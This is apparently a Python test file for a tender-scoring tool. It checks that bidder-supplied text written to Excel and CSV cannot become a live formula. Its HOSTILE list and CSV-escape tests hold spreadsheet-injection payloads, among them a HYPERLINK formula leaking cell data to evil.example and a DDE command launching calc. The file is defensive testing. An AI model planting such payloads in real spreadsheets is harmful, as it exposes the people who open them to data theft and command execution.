"""Untrusted text stays text: safe_text, csv_escape, and the write-then-read property."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
import xlsxwriter
from excel_tenders import small_tender
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from efc_scoring.errors import EfcError
from efc_scoring.excel import MAX_CELL_CHARS, TextTooLongError, csv_escape, safe_text, write_grids

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+33 4 78 00 00 00",
    "-40 % de déchets",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "=",
    "==",
    "'=quoted",
    "TRUE",
    "1e5",
    "0012",
    "_x0041_ littéral",
    "  espaces  ",
    "ligne 1\nligne 2",
    "page 1\x0cpage 2\x0b\x00fin",
    "a\r\nb\rc",
    "émoji 😀 et 中文",
]

# Text a bidder could paste: any printable character, plus the troublesome ones.
TEXT = (
    st.text(
        alphabet=st.one_of(
            st.characters(codec="utf-8", exclude_categories=("Cs",)),
            st.sampled_from([*"=+-@#\t\r\n!|'\"&<>%", "\x0b", "\x0c", "\x00", "\ufffe"]),
        ),
        max_size=80,
    )
    | st.sampled_from(HOSTILE)
    | st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=20))
)


def _roundtrip(texts: list[str], path) -> list[openpyxl.cell.Cell]:
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("T")
    for i, text in enumerate(texts):
        ws.write_string(i, 0, safe_text(text))
    wb.close()
    sheet = openpyxl.load_workbook(path)["T"]
    return [sheet.cell(i + 1, 1) for i in range(len(texts))]


def test_safe_text_policy():
    assert safe_text(None) == ""
    assert safe_text(4) == "4"
    assert safe_text("a\r\nb\rc") == "a\nb\nc"
    assert safe_text("x\x00\x08\x0b\x0c\x0e\x1fy") == "x\u2400\u2408\u240b\u240c\u240e\u241fy"
    assert safe_text("tab\tnl\n") == "tab\tnl\n"
    assert safe_text("a\ud800b\ufffec\uffff") == "a\ufffdb\ufffdc\ufffd"
    for text in HOSTILE[:6]:
        if "\r" not in text:
            assert safe_text(text) == text  # no apostrophe, no stripping: the writer keeps text


def test_too_long_is_refused_never_truncated():
    assert len(safe_text("x" * MAX_CELL_CHARS)) == MAX_CELL_CHARS
    with pytest.raises(TextTooLongError, match=r"offre O2, question q1") as info:
        safe_text("x" * (MAX_CELL_CHARS + 1), where="offre O2, question q1")
    assert isinstance(info.value, EfcError) and isinstance(info.value, ValueError)
    # spreadsheet programs count UTF-16 units: an emoji counts twice
    with pytest.raises(TextTooLongError):
        safe_text("😀" * (MAX_CELL_CHARS // 2 + 1))


def test_hostile_examples_stay_text(tmp_path):
    cells = _roundtrip(HOSTILE, tmp_path / "t.xlsx")
    for text, cell in zip(HOSTILE, cells, strict=True):
        assert cell.data_type == "s", text
        assert cell.value == safe_text(text)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(TEXT, min_size=1, max_size=8))
def test_any_text_reads_back_as_the_same_text(tmp_path, texts):
    """No formula, no error cell; the text read back is ``safe_text(text)``, i.e. the text
    itself when it holds no CR, no C0 control other than tab/LF, and no non-character.

    openpyxl's reader deletes every ``x005F_`` from strings (reader/strings.py), so texts
    holding that substring are left out here (see the dedicated test below).
    """
    texts = [t for t in texts if t.strip() or t == ""]
    assume(texts and not any("x005F_" in t for t in texts))
    for text, cell in zip(texts, _roundtrip(texts, tmp_path / "h.xlsx"), strict=True):
        assert cell.data_type in ("s", "n") and not isinstance(cell.value, (int, float))
        assert (cell.value or "") == safe_text(text)
        if not any(c in text for c in "\r\x00\x0b\x0c\ufffe") and not any(
            "\x01" <= c <= "\x1f" and c not in "\t\n" for c in text
        ):
            assert (cell.value or "") == text


def test_openpyxl_reader_quirk_x005f_is_documented(tmp_path):
    """XlsxWriter escapes a literal `_x0041_` correctly; openpyxl drops a literal `x005F_`."""
    [ok, quirk] = _roundtrip(["_x0041_", "a_x005F_b"], tmp_path / "q.xlsx")
    assert ok.value == "_x0041_"
    assert quirk.value == "a_b"


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(answers=st.lists(TEXT, min_size=3, max_size=3))
def test_bidder_answers_in_generated_grids_stay_text(tmp_path_factory, answers):
    assume(not any("x005F_" in a for a in answers))
    tender = small_tender(3)
    offers = [
        o.model_copy(update={"answers": {"q-emb": a}})
        for o, a in zip(tender.offers, answers, strict=True)
    ]
    tender = tender.model_copy(update={"offers": tuple(offers)})
    [path] = write_grids(tender, tmp_path_factory.mktemp("g"), evaluators=["E1"], propose=False)
    ws = openpyxl.load_workbook(path)["Grille"]
    texts = {}
    for row in ws.iter_rows(min_row=5):
        for cell in row:
            assert cell.data_type != "e"
            if cell.data_type == "f":
                assert cell.column_letter in ("L", "M")  # the template's weight and points only
        if row[1].value == "env":
            texts[row[0].value] = row[6].value
    for offer, answer in zip(tender.offers, answers, strict=True):
        expected = safe_text(answer) if answer.strip() else "(aucune réponse du candidat)"
        assert texts[offer.id] == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-pas de reprise", "'-pas de reprise"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("Reprise des bidons", "Reprise des bidons"),
        (None, ""),
        (Decimal("-2.5"), "-2.5"),
        (3, "3"),
    ],
)
def test_csv_escape_owasp(value, expected):
    assert csv_escape(value) == expected


@settings(max_examples=60, deadline=None)
@given(text=TEXT)
def test_csv_field_never_starts_a_formula(text):
    out = io.StringIO()
    csv.writer(out).writerow([csv_escape(text)])
    [field] = next(csv.reader(io.StringIO(out.getvalue())))
    assert not field.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert field in (text, "'" + text)
